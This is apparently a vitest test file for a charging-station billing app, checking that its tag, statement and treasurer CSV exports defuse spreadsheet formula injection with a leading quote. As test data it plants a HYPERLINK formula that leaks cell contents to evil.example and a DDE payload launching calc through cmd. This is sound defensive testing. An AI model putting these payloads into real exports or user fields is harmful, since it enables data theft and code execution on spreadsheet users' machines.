import { beforeAll, describe, expect, it } from 'vitest';
import { parseCsv } from '../../core/csv.js';
import { bootedCharger, createTag, createUser, type TestApp, useApp } from '../kit/index.js';
import { costOf, createTariff, DRIVER_PASSWORD, runSession, withBilling } from '../../plugins/billing/test-kit.js';

// What a member (their name), a card or an operator's note could carry to run in the treasurer's spreadsheet.
const FORMULAS = ['=1+1', '+SUM(A1:A9)', '-2+3', '@SUM(1)', '=1\t', '@\r'];
const NOTE = '=HYPERLINK("http://evil.example/?"&A1,"open")';

const rowsOf = (text: string) => {
  const [header, ...rest] = parseCsv(text).records.map((r) => r.cells);
  return rest.map((cells) => Object.fromEntries(header!.map((h, i) => [h, cells[i] ?? ''])));
};

let t: TestApp;
const apps = useApp();
let mallory: { id: number };
beforeAll(async () => {
  t = await apps.start(withBilling());
  mallory = await createUser(t, 'mallory', 'driver', DRIVER_PASSWORD);
  expect((await t.api('PATCH', `/users/${mallory.id}`, { body: { name: '=cmd|\' /C calc\'!A0' } })).status).toBe(200);
  await createTag(t, { idTag: '=1+1', userId: mallory.id, note: NOTE });
  await createTag(t, { idTag: '@SUM(1)', note: '-2+3' });
  await createTag(t, { idTag: 'PLAIN-1', note: "'=already quoted" });
  await createTariff(t, { name: '+SUM(A1:A9)', pricePerKwh: 0.3 });
  const cp = await bootedCharger(t, 'CP-X');
  const id = await runSession(cp, { idTag: '=1+1', start: '2026-03-05T08:00:00Z', stop: '2026-03-05T09:00:00Z', meterStart: 0, meterStop: 2000 });
  await costOf(t, id);
}, 30_000);

describe('CSV exports are safe to open in a spreadsheet', () => {
  it('defuses card ids and notes in the tag export with a leading quote', async () => {
    const res = await t.api<string>('GET', '/tags/export');
    expect(res.status).toBe(200);
    const rows = rowsOf(res.body);
    const byTag = new Map(rows.map((r) => [r.idTag, r]));
    expect([...byTag.keys()].sort()).toEqual(["'=1+1", "'@SUM(1)", 'PLAIN-1']);
    expect(byTag.get("'=1+1")!.note).toBe(`'${NOTE}`);
    expect(byTag.get("'=1+1")!.userId).toBe(String(mallory.id));
    expect(byTag.get("'@SUM(1)")!.note).toBe("'-2+3");
    expect(byTag.get('PLAIN-1')!.note).toBe("''=already quoted");
    for (const r of rows) for (const v of Object.values(r)) expect(v, v).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('imports its own export back unchanged', async () => {
    const before = (await t.api<Array<Record<string, unknown>>>('GET', '/tags')).body;
    const file = (await t.api<string>('GET', '/tags/export')).body;
    for (const tag of before) expect((await t.api('DELETE', `/tags/${encodeURIComponent(String(tag.idTag))}`)).status).toBe(204);
    const res = await t.api('POST', '/tags/import', { raw: file, headers: { 'content-type': 'text/csv' } });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    const after = (await t.api<Array<Record<string, unknown>>>('GET', '/tags')).body;
    const pick = (list: Array<Record<string, unknown>>) => list.map(({ idTag, userId, status, note, parentIdTag, chargerIds, expiresAt }) => ({ idTag, userId, status, note, parentIdTag, chargerIds, expiresAt }));
    expect(pick(after)).toEqual(pick(before));
    expect(after.map((x) => x.note)).toContain(NOTE);
  });

  it('defuses names, cards and tariff names in statements and the treasurer\'s export, and leaves amounts numbers', async () => {
    for (const path of [`/statements?userId=${mallory.id}&period=2026-03&format=csv`, '/statements/export?period=2026-03']) {
      const res = await t.api<string>('GET', path);
      expect(res.status, path).toBe(200);
      const rows = rowsOf(res.body);
      const session = rows.find((r) => r.type === 'session')!;
      expect(session.idTag, path).toBe("'=1+1");
      expect(session.tariff, path).toBe("'+SUM(A1:A9) v1");
      expect(session.amount, path).toMatch(/^\d+\.\d{2}$/);
      if (session.name !== undefined) expect(session.name).toBe("'=cmd|' /C calc'!A0");
      for (const r of rows) for (const v of Object.values(r)) expect(v, `${path} ${v}`).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
    }
  });

  it('guards every formula lead character', async () => {
    for (const [i, lead] of FORMULAS.entries()) {
      const saved = await t.api<{ note: string }>('PATCH', `/tags/PLAIN-1`, { body: { note: `${lead} x` } });
      expect(saved.status, String(i)).toBe(200);
      const row = rowsOf((await t.api<string>('GET', '/tags/export')).body).find((r) => r.idTag === 'PLAIN-1')!;
      // Notes are stored trimmed; whatever is stored, its formula lead is defused.
      expect(row.note, JSON.stringify(lead)).toBe(`'${saved.body.note}`);
    }
  });
});
